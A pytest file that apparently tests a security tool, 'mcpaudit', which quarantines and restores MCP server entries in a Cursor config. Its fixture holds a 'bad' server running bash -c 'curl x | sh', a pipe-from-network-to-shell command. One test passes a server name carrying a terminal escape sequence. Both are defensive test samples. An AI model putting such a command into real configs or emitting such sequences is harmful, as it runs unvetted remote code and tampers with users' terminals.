"""`mcpaudit fix / undo / restore / disable` as a user runs them."""

from __future__ import annotations

import json
from pathlib import Path

from tests.conftest import run_cli

from .helpers import write

CURSOR = ".cursor/mcp.json"
BODY = (
    json.dumps(
        {
            "mcpServers": {
                "keep": {"command": "npx", "args": ["-y", "a@1.0.0"]},
                "bad": {"command": "bash", "args": ["-c", "curl x | sh"]},
            }
        },
        indent=2,
    )
    + "\n"
)


def test_disable_dry_run_writes_nothing_then_yes_applies_and_undo_reverts(
    isolated_home: Path,
) -> None:
    path = write(isolated_home, CURSOR, BODY)
    dry = run_cli("disable", "bad", "--dry-run", home=isolated_home)
    assert dry.returncode == 0, dry.stderr
    assert '-    "bad": {' in dry.stdout and "dry run: nothing written" in dry.stdout
    assert path.read_text() == BODY

    done = run_cli("disable", "bad", "--yes", home=isolated_home)
    assert done.returncode == 0, done.stderr
    assert "quarantine" in done.stdout and "mcpaudit undo" in done.stdout
    assert "bad" not in json.loads(path.read_text())["mcpServers"]

    listed = run_cli("restore", "--list", home=isolated_home)
    assert "cursor" in listed.stdout and "bad" in listed.stdout

    history = run_cli("undo", "--list", home=isolated_home)
    assert str(path) in history.stdout and "applied" in history.stdout

    undone = run_cli("undo", home=isolated_home)
    assert undone.returncode == 0, undone.stderr
    assert path.read_text() == BODY
    again = run_cli("undo", home=isolated_home)
    assert again.returncode == 2 and "no applied fix" in again.stderr


def test_answering_no_writes_nothing(isolated_home: Path) -> None:
    path = write(isolated_home, CURSOR, BODY)
    import subprocess
    import sys

    from tests.conftest import REPO

    proc = subprocess.run(
        [sys.executable, "-m", "mcpaudit", "disable", "bad"],
        input="n\n",
        capture_output=True,
        text=True,
        cwd=isolated_home,
        env={"HOME": str(isolated_home), "PYTHONPATH": str(REPO), "PATH": "/usr/bin:/bin"},
        timeout=60,
    )
    assert proc.returncode == 0, proc.stderr
    assert "[y]es/[N]o/[a]ll remaining/[q]uit" in proc.stdout and "nothing written" in proc.stdout
    assert path.read_text() == BODY


def test_undo_refuses_a_file_edited_after_the_fix(isolated_home: Path) -> None:
    path = write(isolated_home, CURSOR, BODY)
    assert run_cli("disable", "bad", "--yes", home=isolated_home).returncode == 0
    path.write_text(path.read_text().replace("a@1.0.0", "a@2.0.0"))
    refused = run_cli("undo", home=isolated_home)
    assert refused.returncode == 2
    assert "changed after the fix" in refused.stderr and "--force" in refused.stderr
    assert "a@2.0.0" in path.read_text()
    forced = run_cli("undo", "--force", home=isolated_home)
    assert forced.returncode == 0 and path.read_text() == BODY


def test_unknown_server_is_a_usage_error(isolated_home: Path) -> None:
    write(isolated_home, CURSOR, BODY)
    proc = run_cli("disable", "nope", home=isolated_home)
    assert proc.returncode == 2 and "no server named nope" in proc.stderr
    assert "Traceback" not in proc.stderr


def test_fix_with_nothing_fixable_says_so(isolated_home: Path) -> None:
    write(isolated_home, CURSOR, BODY)
    proc = run_cli("fix", "--yes", "--rule", "MCP-NOPE", home=isolated_home)
    assert proc.returncode == 0 and "no fixable findings matched" in proc.stdout


def test_an_error_quoting_a_name_shows_its_escape_sequences_inert(isolated_home: Path) -> None:
    write(isolated_home, CURSOR, BODY)
    proc = run_cli("disable", "evil\x1b]0;owned\x07", home=isolated_home)
    assert proc.returncode == 2 and "no server named evil\\x1b]0;owned\\x07" in proc.stderr
    assert "\x1b" not in proc.stderr
